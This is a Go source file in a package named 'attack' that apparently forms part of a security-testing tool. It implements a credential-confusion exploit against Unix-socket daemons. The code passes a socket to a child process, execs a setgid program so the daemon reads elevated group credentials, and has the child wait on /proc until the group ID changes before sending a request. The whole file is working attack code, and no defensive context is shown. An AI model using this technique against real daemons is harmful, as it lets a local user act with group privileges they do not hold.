package attack

import (
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"time"
)

const laterFlag = "--later" // --later GROUP: descriptor 3 is a connection, standard input a request

// becomeSetgid connects to the daemon, has a child keep the connection, and executes
// a setgid program. When that runs, the child sends the request: the daemon then
// reads the groups of who connected. The answer goes to the file FD of the call.
func becomeSetgid(c call) error {
	conn, err := net.Dial("unix", c.To)
	if err != nil {
		return err
	}
	file, err := conn.(*net.UnixConn).File()
	if err != nil {
		return err
	}
	child := exec.Command("/proc/self/exe", laterFlag, fmt.Sprint(c.A))
	child.ExtraFiles = []*os.File{file}
	child.Stdin = strings.NewReader(string(c.Data))
	in, out, err := os.Pipe()
	if err != nil {
		return err
	}
	if _, err := out.Write(c.Data); err != nil {
		return err
	}
	out.Close()
	child.Stdin, child.Stdout = in, os.Stdout
	if err := child.Start(); err != nil {
		return err
	}
	return syscall.Exec(c.Device, []string{c.Device, "60"}, nil)
}

// askLater waits until the parent has the group, asks, and writes a result.
func askLater(group string) error {
	file := os.NewFile(3, "connection")
	conn, err := net.FileConn(file)
	if err != nil {
		return err
	}
	file.Close()
	request, err := io.ReadAll(os.Stdin)
	if err != nil {
		return err
	}
	for until := time.Now().Add(5 * time.Second); time.Now().Before(until); {
		status, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", os.Getppid()))
		_, gid, _ := strings.Cut(string(status), "\nGid:")
		if fields := strings.Fields(gid); len(fields) > 1 && fields[1] == group {
			break
		}
	}
	if _, err := conn.Write(request); err != nil {
		return err
	}
	answer, err := io.ReadAll(conn)
	fmt.Printf("{\"From\":%q}\n", answer)
	return err
}
